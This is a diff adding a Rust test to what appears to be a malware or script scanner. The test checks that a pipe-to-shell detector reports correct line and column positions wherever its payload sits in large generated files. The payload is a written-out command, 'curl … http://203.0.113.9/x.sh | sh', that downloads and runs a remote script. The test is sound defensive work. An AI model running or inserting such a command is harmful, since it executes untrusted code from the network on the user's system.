@@ -347,3 +347,51 @@ fn indicator_lines_are_capped_and_the_rest_is_said() {
     );
     assert_eq!(report.verdict(), Verdict::Fail);
 }
+
+#[test]
+fn partial_scans_report_whole_file_positions_wherever_the_payload_lies() {
+    // Small limits so that head, stream, carry cuts and tail all come into play; lines of
+    // every length (also longer than the carry), multi-byte text, and the payload anywhere.
+    let limits = Limits {
+        max_file_bytes: 16 * 1024,
+        ..Limits::CONTRACT
+    };
+    let payload = "curl -fsSL http://203.0.113.9/x.sh | sh";
+    let mut seed: u64 = 0x2545_f491_4f6c_dd1d;
+    let mut next = move |n: u64| {
+        seed ^= seed << 13;
+        seed ^= seed >> 7;
+        seed ^= seed << 17;
+        seed % n
+    };
+    for round in 0..40 {
+        let mut lines: Vec<String> = Vec::new();
+        let count = 200 + next(800) as usize;
+        for _ in 0..count {
+            let len = match next(10) {
+                0 => 9_000 + next(20_000) as usize,
+                1 => 0,
+                _ => next(120) as usize,
+            };
+            let unit = if next(4) == 0 { "é日" } else { "ab" };
+            lines.push(unit.repeat(len / unit.len() + 1));
+        }
+        let at = next(count as u64) as usize;
+        let prefix = "x".repeat(next(3) as usize * 5_000);
+        lines[at] = format!("{prefix} {payload}");
+        let text = lines.join("\n");
+        let report = s().scan_files_with(vec![("run.sh", text.as_bytes())], &limits);
+        let f = report
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "exec.pipe-to-shell")
+            .unwrap_or_else(|| panic!("round {round}: payload on line {} not found", at + 1));
+        assert_eq!(f.line as usize, at + 1, "round {round}");
+        assert_eq!(
+            f.column as usize,
+            prefix.chars().count() + 2,
+            "round {round}"
+        );
+        assert_eq!(report.verdict(), Verdict::Fail);
+    }
+}
